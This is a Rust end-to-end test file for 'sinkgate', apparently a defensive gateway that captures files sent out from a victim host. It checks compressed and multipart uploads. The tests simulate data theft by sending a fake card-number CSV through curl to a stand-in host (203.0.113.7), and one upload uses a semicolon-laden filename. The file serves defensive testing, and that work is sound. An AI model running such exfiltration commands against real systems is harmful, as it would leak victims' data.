//! What is found in bodies that other people's clients send: compressed, in parts, or both.

#![expect(
    clippy::unwrap_used,
    clippy::indexing_slicing,
    reason = "a failure here is a failed test"
)]

use std::fs;
use std::path::Path;

use testkit::programs::shell;
use testkit::{Gateway, wait_until};

const SINKGATE: &str = env!("CARGO_BIN_EXE_sinkgate");

/// What a victim steals.
const LOOT: &str = "name,card\njo,4000 0012 3456 7899\n";

/// Content codings, and what packs its standard input so.
const CODINGS: &[(&str, &str)] = &[
    ("br", "brotli"),
    (
        "deflate",
        "python3 -c 'import sys, zlib; io = sys.stdin.buffer, sys.stdout.buffer; \
         io[1].write(zlib.compress(io[0].read()))'",
    ),
    ("gzip", "gzip"),
    ("zstd", "zstd -q"),
];

/// Runs a line of the shell in a folder of the victim's where `loot.csv` is.
fn in_folder(gateway: &Gateway, line: &str) {
    let loot = gateway.folder.written("loot.csv", LOOT.repeat(1_000));
    let folder = loot.parent().map(Path::display).unwrap();
    let curl = "curl -sSf --max-time 20 --noproxy '*' -o /dev/null";
    shell(&gateway.network.victim, &format!("cd {folder} && {}", line.replace("CURL", curl)));
}

/// Files taken so far, as `show files` lists them: source, name, completeness and bytes.
fn files(gateway: &Gateway, count: usize) -> Vec<[String; 4]> {
    let lines = || gateway.show(&["files", "--json"]);
    wait_until("files", || lines().lines().count() >= count);
    let row = |line: &str| {
        let row: serde_json::Value = serde_json::from_str(line).unwrap();
        ["source", "file_name", "completeness", "bytes"]
            .map(|field| row[field].as_str().map_or_else(|| row[field].to_string(), str::to_owned))
    };
    let mut files: Vec<_> = lines().lines().map(row).collect();
    files.sort();
    files
}

/// The bytes of the one file from this source, as `show file` writes them.
fn content(gateway: &Gateway, source: &str) -> Vec<u8> {
    let lines = gateway.show(&["files", "--json"]);
    let mut rows =
        lines.lines().map(|line| serde_json::from_str::<serde_json::Value>(line).unwrap());
    let row = rows.rfind(|row| row["source"] == source).unwrap();
    let path = gateway.folder.file("content");
    let hash = row["sha256"].as_str().unwrap();
    let _ = gateway.show(&["file", hash, "--output", path.to_str().unwrap()]);
    fs::read(path).unwrap()
}

#[test]
#[ignore = "end to end: needs root"]
fn compressed_uploads_are_kept_as_they_came_and_decoded() {
    for (coding, program) in CODINGS {
        let Some(gateway) = Gateway::start(SINKGATE, &["brotli", "curl", "gzip", "zstd"], &[])
        else {
            return;
        };
        let line = format!(
            "{program} <loot.csv >packed && CURL -H 'Content-Encoding: {coding}' \
             --data-binary @packed http://203.0.113.7/up.csv"
        );
        in_folder(&gateway, &line);
        let files = files(&gateway, 2);
        let [body, decoded] = &files[..] else { panic!("{coding}: {files:?}") };
        assert_eq!((body[0].as_str(), body[2].as_str()), ("http-request-body", "whole"));
        let whole = (LOOT.len() * 1_000).to_string();
        assert_eq!(decoded[..], ["http-request-decoded", "null", "whole", &whole], "{coding}");
        assert_eq!(content(&gateway, "http-request-decoded"), LOOT.repeat(1_000).as_bytes());
    }
}

#[test]
#[ignore = "end to end: needs root"]
fn files_of_forms_are_files() {
    let Some(gateway) = Gateway::start(SINKGATE, &["curl"], &[]) else { return };
    let form = "-F id=7 -F 'one=@loot.csv;type=text/csv' -F 'two=<loot.csv' \
                -F 'three=@/bin/true;filename=\"a;b.exe\"'";
    for version in ["--http1.1", "--http2-prior-knowledge"] {
        in_folder(&gateway, &format!("CURL {version} {form} http://203.0.113.7/form"));
    }
    let files = files(&gateway, 6);
    let of_forms: Vec<_> = files.iter().filter(|file| file[0] == "http-form-file").collect();
    let names: Vec<_> = of_forms.iter().map(|file| (&file[1][..], &file[2][..])).collect();
    let (program, table) = (("a;b.exe", "whole"), ("loot.csv", "whole"));
    assert_eq!(names, [program, program, table, table]);
}
